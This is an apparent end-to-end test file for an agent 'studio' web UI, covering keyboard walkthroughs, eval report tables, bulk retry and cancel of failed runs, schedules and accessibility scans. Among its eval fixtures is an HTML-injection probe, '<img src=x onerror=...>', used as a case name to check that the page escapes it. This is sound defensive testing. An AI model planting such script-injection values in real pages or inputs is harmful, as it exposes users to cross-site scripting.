    await studio.counts('.edge.was', 0);
    await keyboard.press('j');
    await studio.shows('.walk', 'step 1 of 2');
    await studio.shows('.node.on', 'check');
    await studio.counts('[data-edge="write check"].was .just', 1);
    await studio.shows('.walk .cur', 'write: {"text":"a text"} — done → check');
    await studio.shows('.walk .tree', '"a text"');
    await keyboard.press('Enter'); // the button of the next step has the focus
    await studio.shows('.node.on', 'publish');
    await studio.counts('[data-edge="check publish"].was .just', 1);
    await studio.counts('.walk [data-act="on"]:disabled', 1);
    await keyboard.press('j'); // there is no more
    await studio.shows('.walk', 'step 2 of 2');
    await keyboard.press('k');
    await studio.shows('.node.on', 'check');
    await studio.counts('[data-edge="check publish"].was', 0);
    await keyboard.press('Escape');
    await studio.counts('.walk', 0);
    await studio.counts('.node.on', 0);
    expect(studio.complaints).toEqual([]);
  });

  it('is absent from the workflows of the package, where all hold', async () => {
    const studio = await open();
    await studio.click('.picks button:has-text("tool-agent")');
    await studio.page.keyboard.press('g');
    await studio.shows('.journal', 'Explored all');
    await studio.counts('.promises [data-verdict="broken"]', 0);
    await studio.counts('.promises [data-verdict="unknown"]', 0);
    expect(studio.complaints).toEqual([]);
  });
});

/** A page on a folder with two reports of an eval, one of another, and a broken one. */
async function openEvals(options?: Parameters<typeof openPage>[2]) {
  const own = mkdtempSync(join(folder, 'evals-'));
  const evals = join(own, 'reports');
  writeReport(evals, 'monday.json', await reportOf('1'), 1);
  writeReport(evals, 'pull-request.json', await comparisonOf(), 3);
  writeReport(evals, 'other.json', await reportOf('1', 'other'), 2);
  writeReport(evals, 'broken <b>.json', '{', 4);
  const served = await serveBuilt(join(own, 'agents.db'), undefined, undefined, evals);
  closing.push(() => served.close());
  const studio = await open(options, served.address);
  await studio.counts('a[href="#/evals"]', 1); // it is known that the server shows evals
  return { studio, evals };
}

describe('the evals', () => {
  it('are read by keys alone: cases in versions, and both paths of a case on the machine', async () => {
    const { studio, evals } = await openEvals();
    const { page } = studio;
    await page.keyboard.press('e');
    await studio.counts('.eval-list li', 2);
    await studio.shows('.eval-list', '3 cases · 3 versions');
    await studio.shows('.refused', 'broken <b>.json is not JSON.');
    await studio.shows('.graders', 'too few cases');
    const heads = await page.locator('.cases thead th').allTextContents();
    expect(heads.map((text) => text.replace(/\d .*/, ''))).toEqual(['Case', 'monday', 'main', 'pull-request']);
    const rows = await page.locator('.cases tbody tr').allTextContents();
    expect(rows).toEqual([
      expect.stringMatching(/^lost parcel.*worse/),
      expect.stringMatching(/^greeting.*mixed/),
      expect.stringMatching(/^<img src=x onerror="document.title=1">.*mixed/),
    ]);

    await page.locator('.cases .row-link').first().focus();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await studio.shows('.right h2', hostileCase);
    await studio.counts('[data-edge="triage lookup"].was.before', 1);
    await studio.counts('[data-edge="triage answer"].was.after', 1);
    await studio.counts('[data-edge="answer sent"].was.both', 1);
    await studio.shows('.eval-case .sides', 'order A-7 is refunded');
    await studio.shows('.scores', 'it asks back');
    const strokes = await page.evaluate(() =>
      ['before', 'after', 'both'].map((side) => {
        const line = document.querySelector(`.mach .edge.was.${side} .line`);
        const style = line && getComputedStyle(line);
        return `${style?.strokeDasharray !== 'none'} ${Number.parseFloat(style?.strokeWidth ?? '') > 3}`;
      }),
    );
    expect(strokes).toEqual(['true false', 'false true', 'false false']); // without colour: dashed, thick, neither

    await page.reload();
    await studio.shows('.right h2', hostileCase);
    await page.keyboard.press('Control+k');
    await page.keyboard.type('new thread: tool');
    await page.keyboard.press('Enter');
    await studio.counts('.eval-list', 0);
    await studio.counts('#composer', 1);

    rmSync(join(evals, 'broken <b>.json'));
    await page.locator('a[href="#/evals"]').click();
    await studio.counts('.eval-list li', 2);
    await studio.counts('.refused', 0);
    const many = await reportOf('1', 'many');
    writeReport(
      evals,
      'many.json',
      { ...many, rows: Array.from({ length: 201 }, (_, at) => ({ ...many.rows[0], case: `case ${at}` })) },
      5,
    );
    await page.locator('.side .head button').click();
    await page.locator('.eval-list a:has-text("many")').click();
    await studio.counts('.cases tbody tr', 200); // thousands take seconds
    await page.locator('.evals > .link').click();
    await studio.counts('.cases tbody tr', 201);
    rmSync(evals, { recursive: true });
    await page.locator('.side .head button').click();
    await studio.shows('.side [role="alert"]', 'The folder of --evals cannot be read');
    expect(studio.complaints.filter((text) => !text.includes('404'))).toEqual([]);
  });

  it('have no place where the server shows none', async () => {
    const studio = await open();
    await studio.counts('.threads, .foot', 1);
    await studio.counts('a[href="#/evals"]', 0);
    await studio.page.keyboard.press('e');
    expect(await studio.page.evaluate(() => location.hash)).not.toContain('evals');
  });
});

/** The page of operations, with a failed run that can be retried, one that cannot, and a schedule. */
async function openOperations(options?: Parameters<typeof openPage>[2]) {
  const { workflows, mend } = failingWorkflows();
  const own = await serveWorkflows(workflows);
  closing.push(() => own.close());
  const studio = await open(options, own.address);
  const post = (path: string, body: object): Promise<string> =>
    studio.page.evaluate(
      async ([where = '', text = '']) => {
        const response = await fetch(where, { method: 'POST', headers: { 'content-type': 'application/json' }, body: text });
        const answer = await response.json();
        if (!response.ok) throw new Error(JSON.stringify(answer));
        return answer.id;
      },
      [path, JSON.stringify(body)],
    );
  const start = async (workflow: string): Promise<string> => {
    const id = await post('/api/runs', { workflow, input: {} });
    const status = async (): Promise<string> => (await studio.get<{ status: string }>(`/api/runs/${id}`)).status;
    await vi.waitUntil(async () => (await status()) === 'failed', { timeout: 60_000 });
    return id;
  };
  await post('/api/schedules', { name: 'nightly', workflow: 'unsteady', input: {}, cron: '0 3 1 1 *', timeZone: 'Asia/Seoul' });
  const runs = { hopeless: await start('hopeless'), unsteady: await start('unsteady') };
  await studio.page.evaluate(() => location.assign('#/operations'));
  await studio.counts('[data-run]', 2);
  return { studio, runs, start, mend };
}

describe('operations', () => {
  it('retries the shown runs after a dry run, and names those that were skipped', async () => {
    const { studio, runs, start, mend } = await openOperations();
    const { page } = studio;
    await studio.shows(`[data-run="${runs.unsteady}"]`, 'DEFINITION_THREW');
    await studio.shows('[data-state="failed"]', '2');
    await studio.shows('[data-worker]', 'Last heartbeat');
    await page.locator('.fleet-runs').getByLabel('Select all 2 shown').check();
    await studio.click('[data-act="dry-retry"]');
    await studio.shows('.bulk-plan', '2 runs would be retried');
    const later = await start('hopeless'); // not part of what was planned
    mend();
    await studio.click('[data-act="confirm-retry"]');
    await studio.shows('.bulk-result', '1 done · 1 skipped · 0 failed');
    await studio.shows('.bulk-result li', 'RUN_ENDED');
    expect(await page.locator('.bulk-result li').getAttribute('data-outcome')).toBe(runs.hopeless);
    await studio.counts(`[data-run="${later}"]`, 1);
    await studio.click('[data-state="done"]');
    while ((await page.locator(`[data-run="${runs.unsteady}"]`).count()) === 0) await studio.click('.talk-col [aria-label="Read again"]');
    await studio.click('[data-state="parked"]');
    await studio.shows('.fleet-runs', 'No run is in this state.');
    expect(studio.complaints).toEqual([]);
  });

  it('asks again when the runs have changed since the dry run', async () => {
    const { studio, runs } = await openOperations();
    await studio.page.locator('.fleet-runs').getByLabel('Code').selectOption({ label: 'DEFINITION_THREW' });
    await studio.counts('[data-run]', 1);
    await studio.page.locator('.fleet-runs').getByLabel('Code').selectOption({ label: 'all codes' });
    await studio.counts('[data-run]', 2);
    await studio.page.locator('.fleet-runs').getByLabel('Select all 2 shown').check();
    await studio.click('[data-act="dry-cancel"]');
    await studio.shows('.bulk-plan', '2 runs would be cancelled');
    await studio.page.evaluate(async (id) => fetch(`/api/runs/${id}`, { method: 'DELETE' }), runs.hopeless);
    await studio.click('[data-act="confirm-cancel"]');
    await studio.shows('.bulk-plan', 'The runs have changed since the dry run.');
    await studio.shows('.bulk-plan', '1 run would be cancelled');
    expect(await studio.get(`/api/runs/${runs.unsteady}`)).toMatchObject({ status: 'failed' });
    await studio.click('[data-act="confirm-cancel"]');
    await studio.shows('.bulk-result', '1 done');
    expect(await studio.get(`/api/runs/${runs.unsteady}`)).toMatchObject({ status: 'cancelled' });
    expect(studio.complaints).toEqual([]);
  });

  it('pauses, resumes, triggers and removes a schedule by the keyboard', async () => {
    const { studio } = await openOperations();
    const press = async (action: string): Promise<void> => {
      await studio.page.locator(`[data-schedule="nightly"] [data-act="${action}"]:enabled`).focus();
      await studio.page.keyboard.press('Enter');
    };
    const status = async (): Promise<string | undefined> =>
      (await studio.get<{ schedules: readonly { status: string }[] }>('/api/schedules')).schedules[0]?.status;
    await press('pause');
    await studio.shows('[data-schedule="nightly"] .tagx', 'paused');
    expect(await status()).toBe('paused');
    await press('resume');
    await studio.shows('[data-schedule="nightly"] .tagx', 'active');
    await press('trigger');
    await studio.shows('[data-schedule="nightly"] [role="status"]', 'nightly has started the run');
    await press('remove');
    await press('keep');
    expect(await status()).toBe('active');
    await press('remove');
    await press('confirmRemove');
    await studio.shows('[aria-label="Schedules"]', 'No schedules yet.');
    expect(await status()).toBeUndefined();
    expect(studio.complaints).toEqual([]);
  });

  it('names what the server does not offer, and shows the rest', async () => {
    const { workflows } = failingWorkflows();
    const studio = await openOwn(workflows, { without: ({ url }) => /schedules|workers|metrics/.test(url) });
    await studio.page.evaluate(() => location.assign('#/operations'));
    await studio.shows('.fleet-runs', 'No run is in this state.');
    await studio.counts('.fleet-box [role="alert"]', 2);
    await studio.counts('[data-state]', 10);
    expect(studio.complaints.filter((text) => !text.includes('404'))).toEqual([]);
  });
});

interface AxeResult {
  readonly violations: readonly { readonly id: string; readonly impact: string; readonly nodes: readonly { readonly html: string }[] }[];
}

describe('axe', () => {
  let script = '';
  beforeAll(() => {
    installFolder('studio');
    script = readFileSync(installedFile('studio', 'axe-core/axe.min.js'), 'utf8');
  });
  const serious = (studio: Awaited<ReturnType<typeof open>>): Promise<readonly string[]> =>
    studio.page.evaluate(async () => {
      const { violations } = await (globalThis as unknown as { readonly axe: { run(): Promise<AxeResult> } }).axe.run();
      return violations
        .filter(({ impact }) => impact === 'serious' || impact === 'critical')
        .map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 160)).join(' | ')}`);
    });

  it.each([
    ['dark', 1440],
    ['light', 390],
  ] as const)('finds nothing serious in the evals, %s, %i pixels', async (colorScheme, width) => {
    const { studio } = await openEvals({ script, colorScheme, viewport: { width, height: 844 } });
    await studio.page.keyboard.press('e');
    await studio.counts('.cases tbody tr', 3);
    expect(await serious(studio)).toEqual([]);
    await studio.page.evaluate(() => location.assign('#/evals/refunds/greeting'));
    await studio.shows('.right h2', 'greeting');
    expect(await serious(studio)).toEqual([]);
  });

  it.each([
    ['dark', 1440],
    ['light', 390],
  ] as const)('finds nothing serious in a review, %s, %i pixels', async (colorScheme, width) => {
    const studio = await open({ script, colorScheme, viewport: { width, height: 844 } });
    await studio.page.evaluate(() => location.assign('#/review'));
    await studio.page.locator('.review-form textarea').fill(saleContract);
    expect(await serious(studio)).toEqual([]);
    await studio.click('.review-form button[type=submit]');
    await studio.shows('.review-finding', '매도인은 언제든지');
    expect(await serious(studio)).toEqual([]);
  });

  it.each([
    ['dark', 1440, 'en-US'],
    ['light', 1440, 'ko-KR'],
    ['light', 390, 'en-US'],
  ] as const)('finds nothing serious in the operations, %s, %i pixels, %s', async (colorScheme, width, locale) => {
    const { studio } = await openOperations({ script, colorScheme, locale, viewport: { width, height: 844 } });
    expect(await serious(studio)).toEqual([]);
    if (width < 500) await studio.click('[data-state="failed"]');
    await studio.page.locator('.bulk input').check();
    await studio.click('[data-act="dry-retry"]');
    await studio.counts('.bulk-plan', 1);
    expect(await serious(studio)).toEqual([]);
    await studio.click('[data-act="confirm-retry"]');
    await studio.counts('.bulk-result', 1);
    await studio.click('[data-act="remove"]');
    expect(await serious(studio)).toEqual([]);
  });

  it.each([
    ['dark', 1440],
    ['light', 1440],
    ['dark', 390],
    ['light', 390],
  ] as const)('finds nothing serious on the %s page of %i pixels', async (colorScheme, width) => {
    const studio = await open({ script, colorScheme, viewport: { width, height: width > 500 ? 900 : 844 } });
    const found: Record<string, readonly string[]> = {};
    const narrow = width < 500;
    const look = async (name: string): Promise<void> => {
      found[name] = await serious(studio);
    };
    const pick = async (workflow: string): Promise<void> => {
      if (narrow) {
        await studio.click('.talk-col .back');
        // one column at a time
        expect(
          await studio.page.evaluate(() =>
            ['.side', '.talk-col', '.right'].map((column) => document.querySelector(column)?.checkVisibility()),
          ),
        ).toEqual([true, false, false]);
      }
      await studio.click('.side .head button');
      await studio.click(`.picks button:has-text("${workflow}")`);
    };
    const show = async (tab: string): Promise<void> => {
      if (narrow) await studio.page.locator('.seg3 button').nth(1).click();
      await studio.page.locator(`#tab-${tab}`).click();
      await look(tab);
      if (narrow) await studio.click('.right .back');
    };
    await look('welcome');
    await pick('guide-agent');
    await studio.ask(plan);
    await studio.counts('[data-turn="plan"]', 1);
    await look('review');
    await show('turn');
    await studio.click('.talk [data-act="cancel"]');
    await studio.counts('[data-turn="plan"]', 0);
    await pick('contract-agent');
    await studio.ask('대금은 언제 지급해?');
    await studio.shows('.chips', '“');
    await studio.click('[data-act="timeline"]');
    await look('timeline');
    for (const tab of ['sources', 'journal', 'machine']) await show(tab);
    expect(found).toEqual(Object.fromEntries(Object.keys(found).map((name) => [name, []])));
  });
});
